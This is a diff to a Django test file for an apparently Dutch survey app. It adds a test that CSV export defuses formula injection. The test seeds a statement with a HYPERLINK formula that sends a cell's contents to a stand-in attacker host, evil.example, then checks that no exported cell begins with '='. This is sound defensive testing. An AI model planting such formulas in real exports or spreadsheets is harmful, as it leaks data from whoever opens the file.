@@ -5,6 +5,9 @@ reveal that they exist, complementary suppression, and weighting that pools only
 published table already shows.
 """
 
+import csv
+import io
+
 import pytest
 from django.core.cache import cache
 from django.urls import reverse
@@ -215,3 +218,15 @@ def test_a_personal_link_shows_nothing_from_earlier_rounds(client, member, round
     assert now.title in html
     assert "Vorig jaar" not in html and "helemaal oneens</p>" not in html
     assert "antwoordde je" not in html
+
+
+def test_a_statement_that_looks_like_a_formula_is_text_in_the_csv(
+    client, admin_member, round_factory
+):
+    round_ = round_factory(state=RoundState.CLOSED, statements=1)
+    round_.statements.update(text='=HYPERLINK("https://evil.example/?"&A1,"klik")')
+    bulk_answers(round_.statements.get(), 12)
+    client.force_login(admin_member)
+    body = _csv(client, round_)
+    assert "=HYPERLINK" in body
+    assert all(not cell.startswith("=") for row in csv.reader(io.StringIO(body)) for cell in row)
